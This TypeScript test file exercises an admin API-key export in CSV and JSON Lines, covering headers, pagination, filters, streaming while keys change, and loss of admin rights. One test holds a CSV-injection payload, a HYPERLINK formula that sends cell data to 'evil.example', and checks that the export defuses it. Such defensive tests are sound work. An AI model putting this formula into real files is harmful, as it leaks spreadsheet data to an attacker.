import type { KeyPolicy } from '@postern/core';
import { describe, expect, it } from 'vitest';
import { ask, dayMs, root, withAdmins } from '../../test-support/admins.js';
import { readCsv } from '../../test-support/read-csv.js';

const csv = { accept: 'text/csv' };
const jsonLines = { accept: 'application/jsonl' };
const ada = { kind: 'user', id: 'ada' } as const;

/** The records of a CSV file, as objects. */
async function recordsOf(answer: Response): Promise<readonly Readonly<Record<string, string>>[]> {
  const [columns = [], ...records] = readCsv(await answer.text());
  return records.map((cells) =>
    Object.fromEntries(columns.map((column, index) => [column, cells[index] ?? ''])),
  );
}

/** A service with more keys than a page has. */
async function withManyKeys(...given: Parameters<typeof withAdmins>) {
  const subject = withAdmins(...given);
  const names = Array.from({ length: 120 }, (_, index) => `user ada ${index}`);
  await subject.issue(...names);
  return { ...subject, names };
}

describe('an export as CSV', () => {
  it('has a header and a record for each key, with instants in RFC 3339', async () => {
    const subject = withAdmins();
    const team = { kind: 'team', id: 'platform' };
    const expiresAt = new Date('2026-06-01T12:00:00Z');
    const scopes = ['agents:read'];
    const { key, token } = await subject.keys.issue({
      owner: team,
      actor: ada,
      name: 'CI, "main"',
      scopes,
      expiresAt,
    });
    await subject.keys.verify(token);
    subject.clock.advance(dayMs);
    await subject.keys.disable(key.id, { actor: ada, reason: 'seen in a log' });
    const answer = await ask(subject, '/admin/keys?state=all', csv);
    expect(await answer.text()).toBe(
      'id,display,name,state,ownerKind,ownerId,createdAt,createdByKind,createdById,lastUsedAt,expiresAt,narrowed,' +
        'scopes,rotatedAt,successorId,disabledAt,disabledByKind,disabledById,revokedAt,reason\r\n' +
        `${key.id},team.${key.id.slice(0, 8)}…,"CI, ""main""",disabled,team,platform,2026-01-01T00:00:00.000Z,user,ada,` +
        '2026-01-01T00:00:00.000Z,2026-06-01T12:00:00.000Z,true,agents:read,,,2026-01-02T00:00:00.000Z,user,ada,,' +
        'seen in a log\r\n',
    );
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': 'attachment; filename="api-keys.csv"',
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
      vary: 'Accept',
    });
  });

  it('tells a key that is not narrowed from one that may do nothing', async () => {
    const subject = withAdmins();
    await subject.keys.issue({ owner: ada, actor: ada, name: 'all', scopes: null });
    await subject.keys.issue({ owner: ada, actor: ada, name: 'none', scopes: [] });
    const records = await recordsOf(await ask(subject, '/admin/keys', csv));
    const shown = records.map(({ name, narrowed, scopes }) => [name, narrowed, scopes]).sort();
    expect(shown).toEqual([
      ['all', 'false', ''],
      ['none', 'true', ''],
    ]);
  });

  it('M06 has no name that starts a formula', async () => {
    const subject = withAdmins();
    await subject.keys.issue({ owner: ada, actor: ada, name: '=HYPERLINK("https://evil.example?"&A1,"CI")' });
    expect(await recordsOf(await ask(subject, '/admin/keys', csv))).toMatchObject([
      { name: '\'=HYPERLINK("https://evil.example?"&A1,"CI")' },
    ]);
  });

  it('has its header only, if there are no keys', async () => {
    expect(readCsv(await (await ask(withAdmins(), '/admin/keys', csv)).text())).toHaveLength(1);
  });
});

it('an export as JSON Lines has the keys of the pages of JSON, one on each line', async () => {
  const subject = withAdmins();
  await subject.issue('user ada', 'team platform by ada');
  const page = (await (await ask(subject, '/admin/keys')).json()) as { readonly keys: readonly unknown[] };
  const answer = await ask(subject, '/admin/keys', jsonLines);
  expect(answer.headers.get('Content-Type')).toBe('application/jsonl');
  const lines = (await answer.text()).split('\n');
  expect(lines.pop()).toBe('');
  expect(lines.map((line) => JSON.parse(line))).toEqual(page.keys);
});

describe.each(['/admin/keys', '/admin/people/ada/affected-keys'])('an export of %s', (path) => {
  it('has all keys, whatever the size of a page, each once and in order', async () => {
    const { names, ...subject } = await withManyKeys();
    const records = await recordsOf(await ask(subject, path, csv));
    expect(records.map(({ name }) => name)).toEqual(names.toReversed());
    const lines = (await (await ask(subject, path, jsonLines)).text()).trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line).name)).toEqual(names.toReversed());
  });

  it('P04 has no token and no secret', async () => {
    const subject = withAdmins();
    const { token } = await subject.keys.issue({ owner: ada, actor: ada, name: 'CI' });
    for (const format of [csv, jsonLines])
      expect(await (await ask(subject, path, format)).text()).not.toContain(token.slice(21, 60));
  });

  it.each(['limit=10', 'cursor=1'])('refuses %s', async (query) => {
    const answer = await ask(withAdmins(), `${path}?${query}`, csv);
    expect([answer.status, await answer.json()]).toMatchObject([
      422,
      { code: 'invalid_request', errors: [{ detail: expect.stringMatching(/^(limit|cursor) is only for/) }] },
    ]);
  });

  it('responds to HEAD as to GET, without a body', async () => {
    const answer = await ask(await withManyKeys(), path, { ...csv, method: 'HEAD' });
    expect([answer.status, answer.headers.get('Content-Type'), answer.body]).toEqual([
      200,
      'text/csv; charset=utf-8; header=present',
      null,
    ]);
  });

  it.each(['text/html', 'application/xml', 'text/csv;q=0'])('gets 406 for `Accept: %s`', async (accept) => {
    const answer = await ask(withAdmins(), path, { accept });
    expect([answer.status, await answer.json()]).toMatchObject([
      406,
      {
        code: 'not_acceptable',
        detail: 'Accept one of these: application/json, application/jsonl, text/csv.',
      },
    ]);
  });
});

it('an export takes the filters of pages', async () => {
  const subject = withAdmins();
  await subject.issue('user ada', 'team platform by ada');
  const answer = await ask(subject, '/admin/keys?kinds=team', csv);
  expect(await recordsOf(answer)).toMatchObject([{ ownerId: 'platform' }]);
});

describe('while an export is read', () => {
  it('keys that are issued or revoked neither repeat nor hide another one', async () => {
    const { names, ...subject } = await withManyKeys();
    const first = await subject.keys.listAll({ actor: root, limit: 100 });
    const second = await subject.keys.listAll({ actor: root, limit: 100, cursor: first.nextCursor });
    const answer = await ask(subject, '/admin/keys', jsonLines);
    const reader = (answer.body ?? new ReadableStream()).pipeThrough(new TextDecoderStream()).getReader();
    let text = (await reader.read()).value ?? '';
    await subject.issue('user ada new');
    // One that was exported, and the one after which the next page starts.
    for (const key of [first.keys[50], first.keys[99]])
      await subject.keys.revoke(key?.id ?? '', { actor: ada });
    // One that is still to come.
    await subject.keys.revoke(second.keys[0]?.id ?? '', { actor: ada });
    for (let next = await reader.read(); !next.done; next = await reader.read()) text += next.value;
    const exported = text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line).name);
    expect(exported).toEqual(names.toReversed().filter((name) => name !== second.keys[0]?.name));
  });

  it('M04 someone who is no longer an admin gets no more of it, and it fails', async () => {
    let asked = 0;
    const subject = await withManyKeys({ isAdmin: () => ++asked < 2 });
    const answer = await ask(subject, '/admin/keys', csv);
    expect(answer.status).toBe(200);
    await expect(answer.text()).rejects.toThrow('ended early');
    expect(asked).toBe(2);
    expect(subject.events).not.toContainEqual(expect.objectContaining({ type: 'fault' }));
  });

  it('M04 someone whom the policy refuses gets no more of it, and it fails', async () => {
    let asked = 0;
    const policy: KeyPolicy = {
      decide: () => (++asked < 2 ? { ok: true } : { ok: false, message: 'no longer' }),
    };
    const answer = await ask(await withManyKeys({}, policy), '/admin/keys', csv);
    await expect(answer.text()).rejects.toThrow('ended early');
  });

  it('F01 an isAdmin that fails is a fault, and the export fails', async () => {
    let asked = 0;
    const isAdmin = () => {
      asked += 1;
      if (asked > 1) throw new Error('the directory is down');
      return true;
    };
    const subject = await withManyKeys({ isAdmin });
    await expect((await ask(subject, '/admin/keys', csv)).text()).rejects.toThrow('ended early');
    expect(subject.events).toContainEqual(expect.objectContaining({ type: 'fault', code: 'ERR_UNEXPECTED' }));
  });
});
